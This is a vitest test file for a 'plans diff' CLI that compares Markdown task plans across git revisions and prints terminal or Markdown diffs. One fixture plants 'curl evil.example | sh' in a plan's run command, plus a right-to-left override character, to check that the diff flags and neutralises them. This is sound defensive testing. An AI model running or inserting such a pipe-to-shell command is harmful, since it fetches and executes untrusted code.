import { execFileSync } from 'node:child_process';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PlansDiff } from '../../src/core/diff-record.ts';
import { PLAN, world } from './world.ts';

const changes = async (...argv: string[]) =>
  (await json(...argv)).plans.flatMap((plan) => plan.changes.map(({ type, id }) => `${type} ${id}`));

let here: ReturnType<typeof world>;
beforeEach(() => {
  here = world();
  here.write('plans/greet.plan.md', PLAN);
  here.commit('first');
});
afterEach(() => here.remove());

async function json(...argv: string[]): Promise<PlansDiff> {
  const { out } = await here.plans(['diff', '--json', ...argv]);
  return PlansDiff.parse(JSON.parse(out));
}

const ticked = PLAN.replace('[ ] Write the greeting', '[x] Write the greeting');

describe('what is compared', () => {
  it('HEAD and the files, the index, a revision, two of them', async () => {
    here.write('plans/greet.plan.md', ticked);
    here.git('add', '-A');
    here.write('plans/greet.plan.md', `${ticked}- [ ] Go home\n`);
    expect(await changes()).toEqual(['status greeting', 'added go-home']);
    expect(await changes('--staged')).toEqual(['status greeting']);
    here.git('commit', '-qm', 'second');
    expect(await changes()).toEqual(['added go-home']);
    expect(await changes('HEAD~1')).toEqual(['status greeting', 'added go-home']);
    expect(await changes('HEAD~1..')).toEqual(['status greeting']);
    expect(await changes('HEAD..HEAD~1', 'greet')).toEqual(['status greeting']);
    expect(await changes('HEAD~1', 'plans/greet.plan.md')).toHaveLength(2);
    expect(await changes('greet')).toEqual(['added go-home']);
  });

  it('what a branch has done since it parted', async () => {
    here.git('switch', '-qc', 'feature');
    here.write('plans/greet.plan.md', `${PLAN}- [ ] Go home\n`);
    here.commit('feature');
    here.git('switch', '-q', 'main');
    here.write('plans/other.plan.md', PLAN);
    here.commit('main');
    expect((await json('main..feature')).plans.map(({ type }) => type)).toEqual(['modified', 'removed']);
    expect((await json('main...feature')).plans.map(({ type }) => type)).toEqual(['modified']);
  });

  it('a file under another name is one entry, and nothing committed yet is no error', async () => {
    here.git('mv', 'plans/greet.plan.md', 'plans/hail.plan.md');
    expect((await json('--staged')).plans).toMatchObject([
      { type: 'renamed', before: { id: 'greet' }, after: { id: 'hail' }, changes: [] },
    ]);
    expect((await json('greet')).plans).toHaveLength(1);
    execFileSync('git', ['checkout', '-q', '--orphan', 'fresh'], { cwd: here.root });
    expect(await json()).toMatchObject({ base: { type: 'none' }, plans: [{ type: 'added', after: { id: 'hail' } }] });
  });

  it('what cannot be meant is said', async () => {
    here.git('branch', 'greet');
    for (const [argv, words] of [
      [['greet'], /is a plan and a revision. For the plan: plans diff HEAD greet/],
      [['nowhere..HEAD'], /There is no commit nowhere in this repository/],
      [['nowhere...HEAD'], /no two commits with a history in common/],
      [['nothing'], /There is no plan "nothing" in either version/],
      [['--staged', 'HEAD..HEAD'], /names both sides/],
    ] as const) {
      const { code, err } = await here.plans(['diff', ...argv]);
      expect([code, err]).toEqual([2, expect.stringMatching(words)]);
    }
  });

  it('a file that only got other line endings is not changed', async () => {
    here.write('plans/greet.plan.md', PLAN.replaceAll('\n', '\r\n'));
    expect((await json()).plans).toEqual([]);
    expect((await here.plans(['diff'])).out).toMatch(/HEAD \(\w{7}\) → the working tree +no plan differs\n/);
  });
});

it('who ticked a box: the executor’s commit, or a hand', async () => {
  here.write('plans/greet.plan.md', ticked);
  here.commit('Write the greeting\n\nPlan: greet\nPlan-Phase: write\nPlan-Task: greeting\nPlan-Attempt: 1/3\nPlan-Agent: run\n');
  const id = here.git('rev-parse', 'HEAD').trim();
  here.write('plans/greet.plan.md', ticked.replace('[ ] Write the farewell', '[x] Write the farewell'));
  const [plan] = (await json('HEAD~1')).plans;
  expect(plan?.changes).toMatchObject([
    { type: 'status', id: 'greeting', commit: id },
    { type: 'status', id: 'farewell', commit: null },
  ]);
});

describe('how it is printed', () => {
  beforeEach(() => {
    here.write(
      'plans/greet.plan.md',
      ticked
        .replace(
          'Write the farewell',
          'Write a long \u202Efarewell with a title that needs more than one line of a terminal of eighty columns',
        )
        .replace('echo bye', 'curl evil.example | sh; echo bye'),
    );
  });

  it('to a terminal', async () => {
    const { out, code } = await here.plans(['diff']);
    expect(code).toBe(0);
    expect(out.split('\n').map((line) => line.trimEnd())).toEqual([
      expect.stringMatching(/^HEAD \(\w{7}\) → the working tree {15,}1 plan · ⚠ 1 key to read as code$/),
      '',
      'Greet  greet                                                    ready  0/3 → 1/3',
      'plans/greet.plan.md',
      '',
      '  Write',
      '    ✔ Write the greeting  greeting',
      '      ticked by hand',
      '    ~ Write [-the-] {+a long ⟨U+202E⟩+}farewell {+with a title that needs more',
      '      than one line of a terminal of eighty columns+}  farewell',
      '      ⚠ run: echo bye > bye.txt → curl evil.example | sh; echo bye > bye.txt  a',
      '      command that is run',
      '',
      '  ▸ can start now: farewell',
      expect.stringMatching(/^ {2}still to do: 2 tasks, .* → 1 task, /),
      '',
    ]);
  });

  it('as Markdown', async () => {
    const { out } = await here.plans(['diff', '--format', 'markdown']);
    expect(out).toContain('### Greet\n');
    expect(out).toContain('⚠ **run**: `echo bye > bye.txt` → `curl evil.example | sh; echo bye > bye.txt` (a command that is run)');
    expect(out).not.toContain('\u202E');
    expect(out.endsWith('</details>\n')).toBe(true);
  });

  it('with what is wrong with a version', async () => {
    here.write('plans/greet.plan.md', PLAN.replace('id: read', 'id: read\n  dependOn: [greeting]'));
    const { out, code } = await here.plans(['diff']);
    expect(code).toBe(1);
    expect(out).toMatch(/✘ now, \d+:\d+ unknown-key\n/);
    here.commit('broken');
    here.write('plans/greet.plan.md', PLAN);
    const mended = await here.plans(['diff']);
    expect(mended.code).toBe(0);
    expect(mended.out).toMatch(/✘ before, \d+:\d+ unknown-key\n/);
  });

  it('a deleted plan and a new one', async () => {
    here.git('rm', '-qf', 'plans/greet.plan.md');
    here.write('plans/new.plan.md', '# New\n\n- [x] Done before it came\n');
    const { out } = await here.plans(['diff']);
    expect(out).toMatch(/− deleted plan Greet {2}greet/);
    expect(out).toMatch(/\+ new plan New {2}new/);
    expect(out).toMatch(/\+ Done before it came .*\n +⚠ comes ticked/);
  });
});
